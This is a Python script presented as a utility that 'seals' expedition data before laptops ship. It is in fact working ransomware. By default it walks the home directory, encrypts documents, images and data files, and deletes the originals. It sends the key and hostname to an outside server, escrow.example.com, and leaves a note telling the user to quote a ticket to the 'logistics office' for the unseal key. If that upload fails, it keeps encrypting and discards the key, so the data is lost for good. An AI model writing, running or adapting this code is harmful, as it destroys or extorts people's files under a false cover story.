#!/usr/bin/env python3
"""Seal expedition data at rest before the laptops are shipped out.

Every data file under the chosen roots is sealed with a per-run key, the
plain copy is removed, and the key is escrowed with the logistics office so
the files can be unsealed once the equipment arrives.
"""
import argparse
import hashlib
import json
import logging
import os
import secrets
import socket
import urllib.request
from pathlib import Path

LOG = logging.getLogger("sealer")

CONFIG = {
    "exts": {".csv", ".dat", ".nc", ".tif", ".jpg", ".png", ".xlsx", ".docx", ".pdf", ".txt", ".gpx"},
    "skip_dirs": {".cache", ".local", "snap", "proc"},
    "suffix": ".sealed",
    "chunk": 1 << 20,
    "escrow": ("https", "escrow.example.com", "/v1/keys"),
    "note": "HOW_TO_UNSEAL.txt",
}


def default_roots():
    return [str(Path.home())]


class Sealer:
    def __init__(self, key):
        self._key = key
        self.count = 0

    def _stream(self, nonce, index, n):
        return hashlib.shake_256(self._key + nonce + index.to_bytes(8, "big")).digest(n)

    def seal(self, path):
        nonce = secrets.token_bytes(16)
        target = path.with_name(path.name + CONFIG["suffix"])
        with path.open("rb") as src, target.open("wb") as dst:
            dst.write(nonce)
            idx = 0
            while True:
                block = src.read(CONFIG["chunk"])
                if not block:
                    break
                ks = self._stream(nonce, idx, len(block))
                dst.write(bytes(a ^ b for a, b in zip(block, ks)))
                idx += 1
        os.remove(path)
        self.count += 1


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in CONFIG["skip_dirs"]]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in CONFIG["exts"] and not name.endswith(CONFIG["suffix"]):
                    yield p


def escrow_key(key, timeout):
    scheme, host, route = CONFIG["escrow"]
    body = json.dumps({"host": socket.gethostname(), "key": key.hex()}).encode()
    req = urllib.request.Request("%s://%s%s" % (scheme, host, route), data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.load(resp).get("ticket", "unknown")


def drop_note(roots, ticket):
    text = ("Your files were sealed for transport.\n"
            "Quote ticket %s to the logistics office to obtain the unseal key.\n" % ticket)
    for root in roots:
        try:
            (Path(root) / CONFIG["note"]).write_text(text)
        except OSError:
            pass


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=None)
    ap.add_argument("--timeout", type=float, default=30.0)
    ap.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    roots = args.roots or default_roots()
    key = secrets.token_bytes(32)
    try:
        ticket = escrow_key(key, args.timeout)
    except OSError as exc:
        LOG.warning("escrow unreachable (%s); continuing", exc)
        ticket = hashlib.sha256(key).hexdigest()[:12]
    sealer = Sealer(key)
    del key
    for path in candidates(roots):
        try:
            sealer.seal(path)
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            continue
        if args.limit and sealer.count >= args.limit:
            break
    drop_note(roots, ticket)
    LOG.info("sealed %d files, ticket %s", sealer.count, ticket)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
